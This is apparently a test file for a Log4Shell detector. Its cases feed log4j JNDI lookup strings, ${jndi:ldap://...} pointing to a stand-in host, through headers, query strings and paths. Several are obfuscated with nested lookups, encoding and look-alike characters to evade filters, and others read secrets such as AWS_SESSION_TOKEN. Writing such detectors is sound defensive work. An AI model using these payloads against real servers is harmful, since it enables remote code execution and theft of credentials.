import { assertFound, assertPasses } from './code.js';

const lookup = (content: string): string => `$${`{${content}}`}`;

describe('Lookups of log4j', () => {
  it('sees a JNDI lookup in any place', () => {
    assertFound('jndi.lookup', [
      [lookup('jndi:ldap://collector.test/a')],
      [`Mozilla/5.0 ${lookup('JNDI:dns://collector.test')}`, { place: 'user_agent' }],
      ['%24%7Bjndi%3Armi%3A%2F%2Fcollector.test%7D', { place: 'query' }],
      [`/files/${lookup('jndi:iiop://collector.test')}`, { place: 'path' }],
      ['$\\u007bjndi:ldap://collector.test}'],
      ['&#36;&lbrace;jndi:ldap://collector.test}'],
    ]);
  });

  it('sees a name that nested lookups put together', () => {
    assertFound('jndi.lookup', [
      [lookup(`${lookup('lower:J')}ndi:ldap://collector.test`)],
      [lookup(`${lookup('::-j')}${lookup('x:y:-n')}d${lookup('env:NOT:-i')}${lookup('a:-:')}ldap://collector.test`)],
      [lookup(`${lookup(`upper:${lookup('lower:jnd')}`)}i:ldap://collector.test`)],
      [lookup(`${lookup("date:'jn'")}di:ldap://collector.test`)],
      [lookup(`base64:${Buffer.from(lookup('jndi:ldap://collector.test')).toString('base64')}`)],
      [lookup('jnd\u0131:ldap://collector.test')],
    ]);
  });

  it('sees lookups that act, or that tell what a server holds', () => {
    assertFound('jndi.text_lookup', [[lookup('script:javascript:7*7')], [lookup('dns:address|collector.test')]]);
    assertFound('jndi.context_lookup', [[lookup('env:AWS_SESSION_TOKEN')], [lookup('sys:user.home')]]);
    assertFound('jndi.hidden_character', [[lookup('::-x')]]);
  });

  it('lets ordinary placeholders pass', () => {
    assertPasses('jndi', [
      [lookup('price')],
      [lookup('user.name')],
      [`${lookup('HOME:-/root')}/bin`],
      [`Total: ${lookup('count > 1 ? "items" : "item"')}`],
      [`${lookup('env:EDITOR')}`],
      ['a: {b: $c}'],
    ]);
  });
});
